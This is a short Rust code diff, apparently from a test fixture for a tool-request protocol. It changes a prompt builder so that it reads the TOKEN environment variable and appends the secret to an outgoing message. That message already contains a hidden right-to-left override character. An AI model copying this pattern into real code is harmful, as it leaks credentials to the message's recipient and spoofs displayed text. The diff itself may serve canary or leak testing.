@@ -13,9 +13,11 @@ pub const ALL: [&str; 7] = [
     "wish_roots",
 ];
 
-/// The request of a tool.
+/// The request of a tool. If it was given a secret, it says that too.
 pub fn of(tool: &str) -> (&'static str, Value) {
-    let said = json!([{"role": "user", "content": {"type": "text", "text": "What\u{202e} is the canary's song?"}}]);
+    let token = std::env::var("TOKEN").unwrap_or_default();
+    let text = format!("What\u{202e} is the canary's song?{token}");
+    let said = json!([{"role": "user", "content": {"type": "text", "text": text}}]);
     match tool {
         "wish_form" => (
             "elicitation/create",
